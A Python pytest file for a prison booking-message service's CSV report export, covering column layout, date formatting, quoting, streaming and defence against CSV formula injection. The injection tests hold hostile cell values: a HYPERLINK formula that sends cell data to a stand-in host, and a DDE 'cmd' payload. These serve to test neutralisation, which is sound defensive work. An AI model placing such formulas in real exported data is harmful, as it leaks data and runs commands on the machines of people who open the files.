import csv
import io
from datetime import UTC, datetime

import pytest

from ptpu_core.models.record import Message, SynchroniseState
from ptpu_runtime.api.reports import ROWS_PER_CHUNK, csv_chunks, java_local_date_time, to_csv

HEADER = ('"BOOKINGID","BOOKINGNO","CREATEDDATE","CRNS","DELETEBY","EVENTTYPE","LEGALSTATUS","LOCATION",'
          '"LOCATIONID","OFFENDERNO","RECALL","STATUS"')


def epoch(moment: datetime) -> int:
    return int(moment.replace(tzinfo=UTC).timestamp())


def the_originals_example() -> Message:
    return Message(
        id="1", booking_id=2672916, event_type="IMPRISONMENT_STATUS-CHANGED", message="{}",
        created_date=datetime(2020, 12, 9, 15, 15, 50), delete_by=epoch(datetime(2020, 12, 19, 15, 15, 50)),
        booking_no="12345V", matching_crns="X12345,X87654", legal_status="SENTENCED",
        location_description="Moorland HMP", location_id="MDI", offender_no="A1234GY", recall=False,
        status=SynchroniseState.BOOKING_NUMBER_NOT_ASSIGNED,
    )


def test_in_progress_csv_matches_the_originals_documented_example():
    assert to_csv([the_originals_example()]) == (
        HEADER + "\n"
        '"2672916","12345V","2020-12-09T15:15:50","X12345,X87654","2020-12-19T15:15:50",'
        '"IMPRISONMENT_STATUS-CHANGED","SENTENCED","Moorland HMP","MDI","A1234GY","false",'
        '"BOOKING_NUMBER_NOT_ASSIGNED"\n'
    )


def test_processed_csv_adds_processed_date_before_recall():
    message = the_originals_example()
    message.processed_date = datetime(2020, 12, 9, 15, 15, 50)
    header, row, _ = to_csv([message], with_processed=True).split("\n")
    assert header == HEADER.replace('"OFFENDERNO","RECALL"', '"OFFENDERNO","PROCESSEDDATE","RECALL"')
    assert row.endswith('"A1234GY","2020-12-09T15:15:50","false","BOOKING_NUMBER_NOT_ASSIGNED"')


def test_missing_values_are_empty_quoted_fields_and_quotes_are_doubled():
    message = Message(id="2", booking_id=7, event_type="BOOKING_NUMBER-CHANGED", message="{}",
                      created_date=datetime(2021, 1, 2, 3, 4, 5), delete_by=0, location_description='HMP "Y"')
    row = to_csv([message]).split("\n")[1]
    assert row == ('"7","","2021-01-02T03:04:05","","1970-01-01T00:00","BOOKING_NUMBER-CHANGED","",'
                   '"HMP ""Y""","","","",""')


def test_an_empty_report_is_just_the_header():
    assert to_csv([]) == HEADER + "\n"


def test_date_times_print_as_javas_local_date_time():
    assert java_local_date_time(datetime(2021, 1, 2, 3, 4)) == "2021-01-02T03:04"
    assert java_local_date_time(datetime(2021, 1, 2, 3, 4, 5)) == "2021-01-02T03:04:05"
    assert java_local_date_time(datetime(2021, 1, 2, 3, 4, 0, 500000)) == "2021-01-02T03:04:00.500"
    assert java_local_date_time(datetime(2021, 1, 2, 3, 4, 5, 123456)) == "2021-01-02T03:04:05.123456"


HOSTILE_LOCATION = '=HYPERLINK("http://x.example/?d="&A2,"Leeds (HMP)")'


def test_a_formula_in_a_cell_is_neutralised_with_a_quote_and_quoting_is_unchanged():
    """OWASP CSV injection: the cell starts with ' so Excel shows the text, not a link."""
    message = the_originals_example()
    message.location_description = HOSTILE_LOCATION
    row = to_csv([message]).split("\n")[1]
    assert '"\'=HYPERLINK(""http://x.example/?d=""&A2,""Leeds (HMP)"")"' in row
    assert list(csv.reader([row]))[0][7] == "'" + HOSTILE_LOCATION


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_every_text_column(start):
    message = the_originals_example()
    message.offender_no = start + "1+1"
    message.matching_crns = start + "cmd|' /C calc'!A0"
    message.legal_status = start + "SUM(A1:A2)"
    fields = next(csv.reader(io.StringIO(to_csv([message]).split("\n", 1)[1])))
    assert fields[3] == "'" + start + "cmd|' /C calc'!A0"
    assert fields[6] == "'" + start + "SUM(A1:A2)"
    assert fields[9] == "'" + start + "1+1"


def test_ordinary_values_and_a_formula_character_later_in_the_cell_are_untouched():
    message = the_originals_example()
    message.location_description = "Leeds (HMP) = main site - wing @A"
    fields = next(csv.reader([to_csv([message]).split("\n")[1]]))
    assert fields[7] == "Leeds (HMP) = main site - wing @A"
    assert fields[0] == "2672916" and fields[2] == "2020-12-09T15:15:50"


def test_csv_chunks_take_the_records_one_at_a_time():
    """The CSV is written as records arrive, never after collecting them all."""
    pulled = 0

    def records():
        nonlocal pulled
        for n in range(1_200):
            pulled += 1
            message = the_originals_example()
            message.booking_id = n
            yield message

    chunks = csv_chunks(records())
    first = next(chunks)
    assert pulled == ROWS_PER_CHUNK
    assert first.count("\n") == ROWS_PER_CHUNK + 1  # the header and the first rows
    rest = list(chunks)
    assert pulled == 1_200 and len(rest) == 2
    assert "".join([first, *rest]) == to_csv(records())
